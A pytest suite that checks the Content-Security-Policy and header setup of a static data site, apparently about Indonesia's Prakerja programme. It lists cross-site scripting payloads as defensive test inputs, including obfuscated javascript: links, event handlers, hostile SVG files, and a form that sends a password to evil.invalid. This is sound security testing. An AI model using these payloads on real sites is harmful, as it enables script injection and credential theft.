"""The policy of the pages: everything of ours works under it, and nothing else runs."""

from __future__ import annotations

import re
import shutil
import subprocess
from fnmatch import fnmatchcase
from functools import partial

import pytest
from scratch import ROOT, language

from prakerja.settings import SETTINGS
from publicrecord.findings import ValidationFailed
from publicrecord.pages.embeds import embed_style
from publicrecord.pages.headers import FOR_PROGRAMS, HEADERS
from publicrecord.pages.policy import Theme, check_policies, digest, with_policy
from publicrecord.pages.templates import environment
from publicrecord.site_files import SiteFiles

CHART = "grafik/penerima-per-tahun-bruto/"
PAGES = [
    "", "gelombang/", "wilayah/", "kepuasan/", "kendala/", "data/", "cara-menghitung/", "sumber/",
    "tentang/", "en/", "en/waves/", "en/about/", CHART, "embed/recipients-by-year-gross/",
    "en/embed/recipients-by-wave/", "404.html",
]  # fmt: skip
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
HASH = re.compile(r"'sha256-[^']+'")


def policies(site):
    return {
        page.relative_to(site).as_posix(): POLICY.findall(page.read_text(encoding="utf-8"))
        for page in site.rglob("*.html")
    }


def test_every_page_has_one_strict_policy_before_anything_it_governs(site):
    found = policies(site)
    assert len(found) > 50
    for name, said in found.items():
        assert len(said) == 1, name
        assert "default-src 'none'" in said[0], name
        assert "unsafe" not in said[0], name
        assert "*" not in said[0], name
        assert "http" not in said[0], name
        before = (site / name).read_text(encoding="utf-8").partition(said[0])[0]
        assert not re.search("<(script|style|link|img)", before), name


def test_where_nothing_is_loaded_on_request_no_script_may_write_markup(site):
    closed = 0
    for name, (said,) in policies(site).items():
        html = (site / name).read_text(encoding="utf-8")
        explored = "data-bundle=" in html
        assert explored != ("require-trusted-types-for 'script'; trusted-types 'none'" in said), (
            name
        )
        closed += not explored
    assert closed > 1_100  # all places


INJECTED = [
    "<script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</ScRiPt>",
    "<script type=module data-json>window.pwned=1</script>",
    '<script src="../data/waves.csv"></script>',
    "<svg><script>window.pwned=1</script></svg>",
    "<style>body{display:none}</style>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    '<a href="javascript:window.pwned=1">press</a>',
    '<a href=" java\nscript:window.pwned=1">press</a>',
    '<a href="java&#115;cript:window.pwned=1">press</a>',
    '<meta http-equiv="refresh" content="0;url=//evil.invalid">',
    '<p style="position:fixed;inset:0">x</p>',
    '<a href="javascript&colon;window.pwned=1">press</a>',
    '<a href="&#106;avascript&#58;window.pwned=1">press</a>',
    "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
    '<form action="https://evil.invalid/"><input name=password></form>',
    '<object data="//evil.invalid/x"></object>',
    '<base href="https://evil.invalid/">',
]
COPIED = ["404.html", "index.html", "en/waves/index.html", "wilayah/aceh/simeulue/index.html"]
SHOWN = "embed/recipients-by-wave/index.html"


@pytest.fixture
def unfinished(project, tmp_path):
    """A few pages of the site, and how the build looks at them."""
    for name in [*COPIED, SHOWN]:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(project / "site" / name, tmp_path / name)
    settings = {code: project / "build" / f"mkdocs.{code}.yml" for code in ("id", "en")}
    style = partial(embed_style, jinja=environment(SETTINGS, language("id")))

    def finish():
        files = SiteFiles(tmp_path)
        files.read()
        check_policies(files, settings, "", set(), style)

    return tmp_path, finish


def test_pages_as_they_are_built_pass(unfinished):
    _folder, finish = unfinished
    finish()


@pytest.mark.parametrize(
    ("name", "home"),
    [("404.html", "/"), ("index.html", "."), ("en/waves/index.html", ".."),
     ("wilayah/aceh/simeulue/index.html", "../../..")],
)  # fmt: skip
def test_the_policy_is_made_by_name_and_is_the_one_of_the_site(project, site, name, home):
    code = "en" if name.startswith("en/") else "id"
    scripts = Theme(project / "build" / f"mkdocs.{code}.yml").scripts(home)
    html = (site / name).read_text(encoding="utf-8")
    assert with_policy(POLICY.sub("", html), scripts, loads_plotly=False) == html


@pytest.mark.parametrize("other", ["", '<meta http-equiv="Content-Security-Policy" content="x">'])
def test_a_page_without_the_policy_of_the_site_is_refused(unfinished, other):
    folder, finish = unfinished
    page = folder / "en/waves/index.html"
    page.write_text(POLICY.sub(other, page.read_text(encoding="utf-8")))
    with pytest.raises(ValidationFailed) as refused:
        finish()
    assert {found.rule.rule_id for found in refused.value.findings} == {"page-script-unknown"}


def test_a_page_that_may_load_more_than_it_needs_is_refused(unfinished, project):
    folder, finish = unfinished
    page = folder / "en/waves/index.html"
    scripts = Theme(project / "build" / "mkdocs.en.yml").scripts("..")
    html = POLICY.sub("", page.read_text(encoding="utf-8"))
    page.write_text(with_policy(html, scripts, loads_plotly=True))
    with pytest.raises(ValidationFailed):
        finish()


@pytest.mark.sampled(4)
@pytest.mark.parametrize("name", ["wilayah/aceh/simeulue/index.html", SHOWN])
@pytest.mark.parametrize("markup", INJECTED)
def test_what_the_build_did_not_make_is_refused_and_not_allowed(unfinished, site, name, markup):
    folder, finish = unfinished
    page = folder / name
    page.write_text(page.read_text().replace("</h1>", f"</h1>{markup}", 1))
    with pytest.raises(ValidationFailed) as refused:
        finish()
    (found,) = refused.value.findings
    assert (found.rule.rule_id, found.file) == ("page-script-unknown", name)
    reported = found.sentence(language("en"))
    assert "number of pages: 1" in reported
    assert re.search(
        "script|style|on(error|load)|href|http-equiv|form|object", reported, re.IGNORECASE
    )
    assert POLICY.findall(page.read_text()) == POLICY.findall((site / name).read_text())


def test_a_style_that_brings_its_own_policy_is_refused(unfinished):
    """That a page names a style as allowed is no reason to allow it."""
    folder, finish = unfinished
    page = folder / SHOWN
    html = page.read_text(encoding="utf-8")
    (style,) = re.findall("<style>(.*?)</style>", html, re.DOTALL)
    other = f"{style}body {{ display: none }}"
    page.write_text(html.replace(style, other).replace(digest(style), digest(other)))
    with pytest.raises(ValidationFailed) as refused:
        finish()
    assert {found.rule.rule_id for found in refused.value.findings} == {"page-script-unknown"}


def test_a_page_that_cannot_have_its_policy_is_refused(unfinished):
    folder, finish = unfinished
    page = folder / "en/waves/index.html"
    page.write_text(page.read_text().replace('<meta charset="utf-8">', '<meta charset="UTF-8">'))
    with pytest.raises(ValidationFailed):
        finish()


DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
)
OTHER_FILES = {
    "page.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'/>", "page.htm": "<p>x</p>",
    "evil.js": "window.pwned=1", "program.exe": "MZ", "page.shtml": "", "a.mhtml": "",
    "script.svg": DRAWING.format("<script>window.pwned=1</script>"),
    "prefixed.svg": DRAWING.format('<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script>'),
    "loaded.svg": DRAWING.format('<g onload="window.pwned=1"/>'),
    "linked.svg": DRAWING.format('<a xlink:href="java&#10;script:window.pwned=1"/>'),
    "animated.svg": DRAWING.format('<a><set attributeName="href" to="javascript:1"/></a>'),
    "foreign.svg": DRAWING.format("<foreignObject/>"),
    "styled.svg": '<?xml-stylesheet href="x.xsl"?>' + DRAWING.format(""),
    "broken.svg": DRAWING.format("<b"),
    "feed.atom": "<feed><script/></feed>",
}  # fmt: skip


@pytest.mark.parametrize("name", OTHER_FILES)
def test_a_file_of_another_kind_or_a_drawing_that_runs_is_refused(unfinished, name):
    folder, finish = unfinished
    (folder / "assets").mkdir()
    (folder / "assets" / name).write_text(OTHER_FILES[name])
    with pytest.raises(ValidationFailed) as refused:
        finish()
    assert [(f.rule.rule_id, f.file) for f in refused.value.findings] == [
        ("site-file-unknown", f"assets/{name}")
    ]


@pytest.mark.parametrize("text", ['onerror= data-bundle="', "javascript:x", "&lt;script&gt;"])
def test_words_that_are_only_shown_pass(unfinished, text):
    folder, finish = unfinished
    page = folder / "wilayah/aceh/simeulue/index.html"
    page.write_text(page.read_text().replace("</h1>", f" onload= {text}</h1>", 1))
    finish()
    assert "trusted-types 'none'" in page.read_text()


@pytest.mark.sampled(3)
@pytest.mark.browser
@pytest.mark.parametrize("address", ["wilayah/aceh/", "en/sources/", "en/build/"])
def test_markup_is_refused_where_nothing_is_loaded_on_request(visit, address):
    page = visit(address, width=1280)
    page.wait_for_timeout(300)
    assert page.said == []  # what our scripts do there is allowed
    refused = page.evaluate(
        "() => { try { document.body.innerHTML = '<b>x</b>'; return false } catch { return true } }"
    )
    assert refused


@pytest.mark.sampled(4)
@pytest.mark.browser
@pytest.mark.parametrize("address", PAGES)
def test_nothing_of_ours_breaks_the_policy(visit, address):
    page = visit(address, width=1280)
    page.wait_for_timeout(300)
    assert page.said == []


@pytest.mark.sampled(3)
@pytest.mark.browser
@pytest.mark.parametrize(
    "view", ["chart=recipients-by-wave", "chart=satisfaction", "measure=quota/waves&form=line"]
)
def test_exploring_keeps_the_policy(visit, view):
    page = visit(f"penjelajah-data/?{view}", width=1280)
    page.wait_for_selector(".pr-stage .main-svg")
    page.locator(".pr-stage").first.hover()
    page.wait_for_timeout(500)
    assert page.said == []


@pytest.mark.browser
def test_searching_and_the_dark_scheme_keep_the_policy(visit):
    page = visit("cari/", width=1280)
    page.get_by_role("combobox").press_sequentially("gelombang", delay=40)
    page.wait_for_selector("[role=option]")
    page.keyboard.press("Escape")
    page.locator("label[for=__palette_1]").click()
    assert page.locator("body").get_attribute("data-md-color-scheme") == "slate"
    assert page.said == []


@pytest.mark.browser
def test_a_script_that_got_into_a_page_does_not_run(visit, origin):
    page = visit("penjelajah-data/")  # elsewhere no script may write markup
    for markup in (
        '<img src="data:," onerror="window.pwned = 1">',
        "<svg onload='window.pwned=1'>",
    ):
        page.evaluate("html => { document.querySelector('article').innerHTML += html }", markup)
    page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1';"
        " document.body.append(s) }"
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert any("Content Security Policy" in line for line in page.said)


@pytest.mark.browser
def test_from_a_folder_the_styles_still_apply(browser, site):
    page = browser.new_context().new_page()
    said = []
    page.on("console", lambda line: said.append(line.text))
    page.goto((site / "gelombang" / "index.html").as_uri())
    assert page.locator(".md-header").evaluate("e => getComputedStyle(e).position") == "sticky"
    assert not [line for line in said if "Content Security Policy" in line]


def test_hosts_that_read_headers_find_them(site):
    said = (site / "_headers").read_text(encoding="utf-8")
    assert said.startswith("/*\n  ")
    for name in ("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy"):
        assert len(re.findall(rf"^  {name}: .+$", said, re.MULTILINE)) == 1
    assert "unsafe" not in said
    for name, value in HEADERS.items():
        assert f"  {name}: {value}\n" in said
    assert max(map(len, said.splitlines())) < 2_000  # Cloudflare's limit of a line


def test_what_the_policy_of_a_page_lets_run_the_policy_of_all_pages_lets_run_too(site):
    """A browser that has both keeps to both."""
    sent = re.search(r"^  Content-Security-Policy: (.+)$", (site / "_headers").read_text(), re.M)[1]
    allowed, pages = set(HASH.findall(sent)), policies(site)
    for name, (said,) in pages.items():
        (scripts,) = re.findall(r"script-src ([^;]*)", said) or [""]
        assert {*HASH.findall(scripts)} <= allowed, name
    assert any(name.startswith("embed/") for name in pages)


@pytest.mark.parametrize(
    "address",
    ["api/v1/index.json", "api/v1/geo/places.geojson", "data/catalogue.ttl", "feed.json"]
    + ["downloads/recipients-by-wave.csv", "en/downloads/recipients-by-wave.png", "en/feed.atom"]
    + ["en/calendar.ics", "embed/recipients-by-wave/oembed.json", "llms.txt", "CITATION.cff"]
    + ["assets/charts.js"],  # which a page to embed loads in a frame without an origin
)
def test_every_file_for_programs_may_be_read_and_kept_by_other_sites(site, address):
    """By exactly one entry: of two, hosts would join the values."""
    assert (site / address).is_file()
    entries = re.split(r"^/", (site / "_headers").read_text(encoding="utf-8"), flags=re.MULTILINE)
    found = [
        entry for entry in entries[2:]
        if fnmatchcase(address, entry.partition("\n")[0])
    ]  # fmt: skip
    assert len(found) == 1
    for name, value in FOR_PROGRAMS.items():
        assert f"  {name}: {value}\n" in found[0]


def test_the_headers_for_nginx_are_those_of_the_other_hosts(site):
    """By the command in the documents; without it nginx would send no policy."""
    document = (ROOT / "docs" / "hosting.md").read_text(encoding="utf-8")
    (command,) = re.findall(r"^sed .* site/_headers(?= > )", document, re.MULTILINE)
    said = subprocess.run(
        ["sh", "-c", command], cwd=site.parent, capture_output=True, text=True, check=True
    ).stdout
    sent = re.findall(r'^add_header ([\w-]+) "([^"$]+)" always;$', said, re.MULTILINE)
    assert len(sent) == len(said.splitlines())
    everywhere = (site / "_headers").read_text(encoding="utf-8").partition("\n/api/")[0]
    assert dict(sent) == dict(re.findall(r"^  ([\w-]+): (.+)$", everywhere, re.MULTILINE))
    assert {"Content-Security-Policy", *HEADERS} == {name for name, _value in sent}
